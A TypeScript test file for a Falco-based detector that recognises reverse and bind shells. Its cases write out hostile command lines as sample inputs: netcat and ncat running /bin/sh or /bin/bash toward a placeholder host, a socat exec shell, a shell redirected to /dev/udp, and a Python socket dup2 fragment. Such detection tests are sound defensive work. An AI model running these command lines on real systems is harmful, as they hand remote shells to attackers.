import { falcoExample } from '../../../../lambdas/core/detectors/falco-example';
import { stdioRedirect } from '../../../../lambdas/core/detectors/falco/km-f12-stdio-redirect';
import { processorMs } from '../../../support/processor-time';

const found = (fields: Record<string, unknown>) => stdioRedirect.detect(falcoExample(fields, { rule: 'Run' }));
const ran = (commandLine: string) => found({ 'proc.cmdline': commandLine })?.indicators;

describe('KM-F12', () => {
  test('tells where the connection leads', () => {
    const connection = '10.0.1.7:35648->203.0.113.9:4444';
    expect(found({ 'evt.type': 'dup3', 'fd.type': 'ipv6', 'fd.num': 1, 'fd.name': connection })?.facts).toMatchObject({
      connection,
    });
  });

  test('sees a shell that began on a connection', () => {
    const fields = { 'evt.type': 'execve', 'proc.stdin.name': '10.0.1.7:35648->203.0.113.9:4444' };
    expect(found(fields)?.indicators).toEqual(['standard stream on a connection']);
    expect(found({ ...fields, 'proc.stdin.name': '/dev/null' })).toBeUndefined();
  });

  test('takes the word of a rule that carries its id', () => {
    const alert = falcoExample({}, { tags: ['KM-F12', 'mineguard'] });
    expect(stdioRedirect.detect(alert)?.indicators).toEqual(['said by the rule']);
  });

  test.each([
    ['ncat --sh-exec /bin/bash 203.0.113.9 443', ['netcat runs a program']],
    ['nc -lvnpe /bin/sh 4444', ['netcat runs a program']],
    ['nc -w 5 example.com 22', undefined],
    ['socat tcp:203.0.113.9:443 exec:/bin/bash,pty,stderr', ['socat runs a program']],
    ['socat tcp-listen:8080,fork tcp:db:5432', undefined],
    ['sh -c sh -i >& /dev/udp/203.0.113.9/53', ['shell on a connection']],
    ['bash -c cat < /dev/tcp/db/5432', undefined],
    [
      'python3 -c import socket,os;s=socket.socket();os.dup2(s.fileno(),0)',
      ['interpreter puts a shell on a connection'],
    ],
    ['python3 -m http.server', undefined],
    ['bash -i', undefined],
  ])('says of %s: %p', (commandLine, indicators) => {
    expect(ran(commandLine)).toEqual(indicators);
  });

  test('stays quick on a line that is made to be slow', () => {
    expect(processorMs(() => ran(`nc ${'- '.repeat(50_000)}socket ${'sh -i '.repeat(50_000)}`))).toBeLessThan(2_000);
  });
});
